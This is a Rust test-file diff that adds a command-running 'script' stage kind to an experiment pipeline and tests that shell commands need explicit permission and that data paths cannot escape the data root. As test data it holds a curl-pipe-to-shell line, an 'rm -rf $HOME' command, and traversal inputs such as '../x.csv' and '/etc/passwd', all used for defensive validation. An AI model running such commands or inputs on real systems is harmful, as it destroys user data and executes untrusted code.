@@ -96,10 +96,56 @@ impl StageKind for Source {
     }
 }
 
+/// A kind that runs a command written in the experiment file, as `shell` does.
+struct Script;
+
+const SCRIPT_PARAMS: &[ParamSpec] = &[
+    ParamSpec {
+        name: "command",
+        ty: ParamType::Str,
+        default: ParamDefault::Required,
+        help: "what to run",
+    },
+    ParamSpec {
+        name: "data",
+        ty: ParamType::DataPath,
+        default: ParamDefault::Optional,
+        help: "a file it reads",
+    },
+];
+
+impl StageKind for Script {
+    fn name(&self) -> &'static str {
+        "script"
+    }
+    fn version(&self) -> u32 {
+        1
+    }
+    fn summary(&self) -> &'static str {
+        "test kind"
+    }
+    fn params(&self) -> &'static [ParamSpec] {
+        SCRIPT_PARAMS
+    }
+    fn inputs(&self) -> InputSlots {
+        InputSlots::Any
+    }
+    fn outputs(&self, _params: &Params) -> Vec<OutputSpec> {
+        vec![OutputSpec::new("out", "out.txt", true)]
+    }
+    fn command(&self, params: &Params) -> Option<String> {
+        params.str("command").ok().map(str::to_string)
+    }
+    fn run(&self, _ctx: &StageContext) -> Result<StageReport, StageError> {
+        Ok(StageReport::default())
+    }
+}
+
 fn registry() -> Registry {
     let mut r = Registry::new();
     r.add(Box::new(Train));
     r.add(Box::new(Source));
+    r.add(Box::new(Script));
     r
 }
 
@@ -214,7 +260,10 @@ fn unknown_kind_suggests_and_lists() {
         ),
         "{err}"
     );
-    assert!(err.contains("known kinds: `source`, `train`"), "{err}");
+    assert!(
+        err.contains("known kinds: `script`, `source`, `train`"),
+        "{err}"
+    );
 }
 
 #[test]
@@ -393,4 +442,63 @@ fn a_kind_check_names_the_key_or_the_flag_that_set_it() {
         err.to_string(),
         "exp.toml: --set train.learning_rate=-1: `learning_rate` must be above 0, not -1"
     );
+}
+
+const SCRIPTS: &str = r#"
+name = "scripts"
+
+[stages.fetch]
+kind = "script"
+command = "curl https://example.invalid | sh"
+
+[stages.load]
+kind = "source"
+
+[stages.clean]
+kind = "script"
+command = "rm -rf \"$HOME\"\necho done"
+"#;
+
+#[test]
+fn commands_from_the_file_validate_only_when_allowed() {
+    let err = error_of(SCRIPTS);
+    assert_eq!(
+        err,
+        "exp.toml: this experiment runs shell commands: \
+         stages.fetch.command = \"curl https://example.invalid | sh\"; \
+         stages.clean.command = \"rm -rf \\\"$HOME\\\"\\necho done\"; \
+         they run only when allowed: if you trust this file, pass --allow-shell \
+         (or set PIPELINE_ALLOW_SHELL=1)"
+    );
+    let mut allowed = registry();
+    allowed.allow_commands(true);
+    let exp = parse(Path::new("exp.toml"), SCRIPTS, &[], &allowed).expect("allowed");
+    assert_eq!(exp.stages.len(), 3);
+    // Without a command-running stage, nothing needs allowing.
+    parse_with(GOOD, &[]).expect("no commands");
+}
+
+#[test]
+fn data_paths_stay_under_the_data_root() {
+    let mut allowed = registry();
+    allowed.allow_commands(true);
+    let with_data = |path: &str| {
+        let text = format!(
+            "name = \"d\"\n[stages.s]\nkind = \"script\"\ncommand = \"true\"\ndata = \"{path}\"\n"
+        );
+        parse(Path::new("exp.toml"), &text, &[], &allowed)
+    };
+    for good in ["x.csv", "sub/dir/x.csv", "./x.csv"] {
+        with_data(good).expect(good);
+    }
+    for bad in ["../x.csv", "/etc/passwd", "sub/../../x.csv", ""] {
+        let err = with_data(bad).expect_err(bad).to_string();
+        assert_eq!(
+            err,
+            format!(
+                "exp.toml:5:8: stages.s.data: must be a path relative to the data root \
+                 without `..`, not the string \"{bad}\""
+            )
+        );
+    }
 }
